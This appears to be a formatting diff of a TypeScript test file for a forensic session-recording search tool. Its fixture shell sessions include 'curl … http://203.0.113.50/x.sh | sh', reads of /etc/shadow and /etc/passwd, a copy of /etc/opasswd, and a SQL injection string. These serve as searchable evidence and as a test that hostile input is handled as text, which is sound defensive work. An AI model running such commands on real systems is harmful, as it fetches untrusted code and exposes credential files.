@@ -17,7 +17,9 @@ import { sample, samplePrivateKey, tempDir, truth } from '../helpers/fixtures';
  */
 
 const key = samplePrivateKey();
-const withSampleKey: ImportOptions = { keys: async () => [{ fingerprint: fingerprint(derivePublicKey(key)), privateKey: key }] };
+const withSampleKey: ImportOptions = {
+  keys: async () => [{ fingerprint: fingerprint(derivePublicKey(key)), privateKey: key }],
+};
 const EXEC = truth('sample-exec').exec_command!;
 const NOOR_START = Date.UTC(2026, 10, 19, 8, 0) * 1000;
 const SAM_START = Date.UTC(2026, 10, 20, 12, 0) * 1000;
@@ -33,11 +35,18 @@ let captureProgram: number;
 
 beforeAll(async () => {
   db = openCase(join(dir.path, 'case.sqlite'));
-  for (const name of ['sample-exec.cast', 'sample-exec.capture', 'logpush.ndjson.gz']) expect((await importFile(db, sample(name), withSampleKey)).status).toBe('imported');
+  for (const name of ['sample-exec.cast', 'sample-exec.capture', 'logpush.ndjson.gz'])
+    expect((await importFile(db, sample(name), withSampleKey)).status).toBe('imported');
   const row = (sql: string): number => db.prepare(sql).pluck().get() as number;
-  castProgram = row(`SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'asciicast'`);
-  captureProgram = row(`SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'capture'`);
-  logpushExec = row(`SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'logpush' AND p.type = 'exec'`);
+  castProgram = row(
+    `SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'asciicast'`,
+  );
+  captureProgram = row(
+    `SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'capture'`,
+  );
+  logpushExec = row(
+    `SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'logpush' AND p.type = 'exec'`,
+  );
   // What the Logpush file's interactive sessions yield is the shell extractor's business (tested
   // with it): keep these tests to the exec recordings and the two sessions written below.
   db.exec("DELETE FROM programs WHERE type = 'shell'");
@@ -56,12 +65,32 @@ beforeAll(async () => {
     result(
       [
         shellCommand('sudo cat /etc/shadow', 'root:*:19000:0:99999:7:::', 2_000_000, { exitStatus: 0 }),
-        shellCommand('ssh deploy@10.20.30.40 -p 2222', 'deploy@10.20.30.40: Permission denied (publickey).', 9_000_000, { exitStatus: 255 }),
-        shellCommand('grep -rn passwd /etc/pam.d', '/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512', 15_000_000, { exitStatus: 0 }),
+        shellCommand(
+          'ssh deploy@10.20.30.40 -p 2222',
+          'deploy@10.20.30.40: Permission denied (publickey).',
+          9_000_000,
+          { exitStatus: 255 },
+        ),
+        shellCommand(
+          'grep -rn passwd /etc/pam.d',
+          '/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512',
+          15_000_000,
+          { exitStatus: 0 },
+        ),
         shellCommand('cp /etc/opasswd /tmp/o', '', 20_000_000, { exitStatus: 0 }),
-        shellCommand('passwd', 'Changing password for noor.\nCurrent password: \npasswd: Authentication token manipulation error', 30_000_000, { exitStatus: 1 }),
+        shellCommand(
+          'passwd',
+          'Changing password for noor.\nCurrent password: \npasswd: Authentication token manipulation error',
+          30_000_000,
+          { exitStatus: 1 },
+        ),
         shellCommand('python3', 'Python 3.11.2 (main, Mar 13 2023)', 40_000_000),
-        shellCommand("import os; os.system('id')", 'uid=1000(noor) gid=1000(noor)', 45_000_000, { kind: 'program-input', method: 'keystrokes', programName: 'python3', parentIndex: 5 }),
+        shellCommand("import os; os.system('id')", 'uid=1000(noor) gid=1000(noor)', 45_000_000, {
+          kind: 'program-input',
+          method: 'keystrokes',
+          programName: 'python3',
+          parentIndex: 5,
+        }),
         shellCommand(`echo "'); DROP TABLE commands; --" NEAR(a b) text:col`, '', 50_000_000, { exitStatus: 0 }),
       ],
       [strayOutput(BANNER, 100_000, 0)],
@@ -78,9 +107,21 @@ beforeAll(async () => {
     db,
     sam,
     result([
-      shellCommand('cat /etc/passwd | grep -v nologin', 'root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/bash', 1_000_000, { exitStatus: 0 }),
-      shellCommand('curl -fsSL http://203.0.113.50/x.sh | sh', 'sh: 1: cannot create /usr/local/bin/x: Permission denied', 60_000_000, { exitStatus: 2 }),
-      shellCommand('ls -la /root', "ls: cannot open directory '/root': Permission denied", 3_600_000_000, { exitStatus: 2 }),
+      shellCommand(
+        'cat /etc/passwd | grep -v nologin',
+        'root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/bash',
+        1_000_000,
+        { exitStatus: 0 },
+      ),
+      shellCommand(
+        'curl -fsSL http://203.0.113.50/x.sh | sh',
+        'sh: 1: cannot create /usr/local/bin/x: Permission denied',
+        60_000_000,
+        { exitStatus: 2 },
+      ),
+      shellCommand('ls -la /root', "ls: cannot open directory '/root': Permission denied", 3_600_000_000, {
+        exitStatus: 2,
+      }),
       shellCommand("echo 'Größe café' > /tmp/ünï.txt", '', 3_700_000_000, { exitStatus: 0 }),
     ]),
   );
@@ -96,7 +137,10 @@ function search(query: string, options: SearchOptions = {}): SearchResult {
   return outcome.result;
 }
 
-const commandTexts = (q: string): string[] => search(`in:commands ${q}`).hits.map((h) => h.text!).sort();
+const commandTexts = (q: string): string[] =>
+  search(`in:commands ${q}`)
+    .hits.map((h) => h.text!)
+    .sort();
 const programsOf = (r: SearchResult): string[] => [...new Set(r.hits.map((h) => h.program))].sort();
 const p = (row: number): string => `p${row}`;
 
@@ -123,11 +167,21 @@ describe('substring search', () => {
     expect(commandTexts('ETC/SHAD')).toEqual(['sudo cat /etc/shadow']);
     expect(commandTexts('0.20.30.')).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
     expect(commandTexts('-fssl')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
-    expect(commandTexts('passwd')).toEqual(['cat /etc/passwd | grep -v nologin', 'cp /etc/opasswd /tmp/o', 'grep -rn passwd /etc/pam.d', 'passwd']);
+    expect(commandTexts('passwd')).toEqual([
+      'cat /etc/passwd | grep -v nologin',
+      'cp /etc/opasswd /tmp/o',
+      'grep -rn passwd /etc/pam.d',
+      'passwd',
+    ]);
   });
 
   it('matches a quoted phrase as one piece of text, spaces included', () => {
-    expect(commandTexts('"cat /etc"')).toEqual(['cat /etc/passwd | grep -v nologin', EXEC, EXEC, 'sudo cat /etc/shadow']);
+    expect(commandTexts('"cat /etc"')).toEqual([
+      'cat /etc/passwd | grep -v nologin',
+      EXEC,
+      EXEC,
+      'sudo cat /etc/shadow',
+    ]);
     expect(commandTexts('"cat  /etc"')).toEqual([]);
   });
 
@@ -150,7 +204,11 @@ describe('substring search', () => {
 
 describe('whole words, phrases of words and prefixes', () => {
   it('matches whole words only', () => {
-    expect(commandTexts('=passwd')).toEqual(['cat /etc/passwd | grep -v nologin', 'grep -rn passwd /etc/pam.d', 'passwd']);
+    expect(commandTexts('=passwd')).toEqual([
+      'cat /etc/passwd | grep -v nologin',
+      'grep -rn passwd /etc/pam.d',
+      'passwd',
+    ]);
     expect(commandTexts('word:root')).toEqual(['ls -la /root']);
   });
 
@@ -204,16 +262,25 @@ describe('filters', () => {
   });
 
   it('type: the program type, and kind: the command kind', () => {
-    expect(programsOf(search('type:exec "low disk"'))).toEqual([p(castProgram), p(logpushExec), p(captureProgram)].sort());
+    expect(programsOf(search('type:exec "low disk"'))).toEqual(
+      [p(castProgram), p(logpushExec), p(captureProgram)].sort(),
+    );
     expect(search('type:exec passwd').total).toBe(0);
-    expect(search('kind:program-input').hits.map((h) => `${h.in}:${h.text}`).sort()).toEqual(["command:import os; os.system('id')", "output:import os; os.system('id')"]);
+    expect(
+      search('kind:program-input')
+        .hits.map((h) => `${h.in}:${h.text}`)
+        .sort(),
+    ).toEqual(["command:import os; os.system('id')", "output:import os; os.system('id')"]);
     expect(search('kind:exec in:commands').hits.map((h) => h.text)).toEqual([EXEC, EXEC]);
   });
 
   it('exit: the command exit status; stray output has none', () => {
     expect(commandTexts('exit:2')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh', 'ls -la /root']);
     expect(commandTexts('exit:255 exit:1')).toEqual(['passwd', 'ssh deploy@10.20.30.40 -p 2222']);
-    expect(commandTexts('exit:nonzero user:sam.park')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh', 'ls -la /root']);
+    expect(commandTexts('exit:nonzero user:sam.park')).toEqual([
+      'curl -fsSL http://203.0.113.50/x.sh | sh',
+      'ls -la /root',
+    ]);
     expect(search('exit:0 Welcome').total).toBe(0);
   });
 
@@ -223,7 +290,9 @@ describe('filters', () => {
     // Sam's session: "ls -la /root" at 13:00:00Z, the curl a minute after 12:00.
     expect(commandTexts('after:2026-11-20T12:30 before:2026-11-20T13:00:01Z')).toEqual(['ls -la /root']);
     expect(commandTexts('after:2026-11-20T12:30 before:2026-11-20T13:00:00Z')).toEqual([]);
-    expect(commandTexts('after:"2026-11-20 14:00:30+02:00" before:2026-11-20T12:01:01')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
+    expect(commandTexts('after:"2026-11-20 14:00:30+02:00" before:2026-11-20T12:01:01')).toEqual([
+      'curl -fsSL http://203.0.113.50/x.sh | sh',
+    ]);
   });
 
   it('in: commands or output', () => {
@@ -260,7 +329,10 @@ describe('results', () => {
 
   it('give the session, program, command, user, target, time and where to jump in the replay', () => {
     const [hit] = search('in:commands ssh deploy').hits as [SearchHit];
-    const row = db.prepare('SELECT id, output_start_offset FROM commands WHERE text LIKE ?').get('ssh deploy%') as { id: number; output_start_offset: number };
+    const row = db.prepare('SELECT id, output_start_offset FROM commands WHERE text LIKE ?').get('ssh deploy%') as {
+      id: number;
+      output_start_offset: number;
+    };
     expect(hit).toMatchObject({
       program: p(noor),
       command: `c${row.id}`,
@@ -284,7 +356,9 @@ describe('results', () => {
 
   it('give a plain-text snippet with the ranges of every term in it', () => {
     const hit = search('in:output pam_unix =obscure').hits[0]!;
-    expect(hit.snippet).toBe('/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512');
+    expect(hit.snippet).toBe(
+      '/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512',
+    );
     expect(hit.matches.map((m) => hit.snippet.slice(m.start, m.end))).toEqual(['pam_unix', 'obscure']);
     const multi = search('in:output "Authentication token"').hits[0]!;
     expect(multi.snippet).toBe('…passwd: Authentication token manipulation error');
@@ -300,7 +374,12 @@ describe('results', () => {
 
   it('list the newest hits first for filters without text', () => {
     const r = search('user:sam.park in:commands');
-    expect(r.hits.map((h) => h.text)).toEqual(["echo 'Größe café' > /tmp/ünï.txt", 'ls -la /root', 'curl -fsSL http://203.0.113.50/x.sh | sh', 'cat /etc/passwd | grep -v nologin']);
+    expect(r.hits.map((h) => h.text)).toEqual([
+      "echo 'Größe café' > /tmp/ünï.txt",
+      'ls -la /root',
+      'curl -fsSL http://203.0.113.50/x.sh | sh',
+      'cat /etc/passwd | grep -v nologin',
+    ]);
   });
 });
 
@@ -325,7 +404,8 @@ describe('both ways of finding hits agree', () => {
     const trace = (s: SearchStep): void => void ways.push(s.way);
     const scanned = search(q, { force: 'scan', trace });
     const walked = search(q, { force: 'walk', trace });
-    const key = (r: SearchResult): string[] => r.hits.map((h) => `${h.in} ${h.program} ${h.command} ${h.replay.atUs}`).sort();
+    const key = (r: SearchResult): string[] =>
+      r.hits.map((h) => `${h.in} ${h.program} ${h.command} ${h.replay.atUs}`).sort();
     expect(key(walked)).toEqual(key(scanned));
     expect(walked.total).toBe(scanned.total);
     expect(scanned.total).toBeGreaterThan(0);
@@ -355,7 +435,10 @@ describe('hostile input is text', () => {
 
   it('answers a malformed query with a message and no SQL', () => {
     const outcome = searchCase(db, 'cat "/etc/passwd');
-    expect(outcome).toEqual({ ok: false, error: { kind: 'query', column: 5, message: expect.stringMatching(/^unbalanced quote/) } });
+    expect(outcome).toEqual({
+      ok: false,
+      error: { kind: 'query', column: 5, message: expect.stringMatching(/^unbalanced quote/) },
+    });
   });
 
   it('refuses a 1-2 character term it would have to test on every row of a large case, and says what to do', () => {
@@ -374,6 +457,9 @@ describe('hostile input is text', () => {
     other.exec('DROP TABLE commands_trigram');
     const outcome = searchCase(other, 'passwd', { force: 'walk' });
     other.close();
-    expect(outcome).toEqual({ ok: false, error: { kind: 'database', column: null, message: 'the case could not be searched (SQLITE_ERROR)' } });
+    expect(outcome).toEqual({
+      ok: false,
+      error: { kind: 'database', column: null, message: 'the case could not be searched (SQLITE_ERROR)' },
+    });
   });
 });
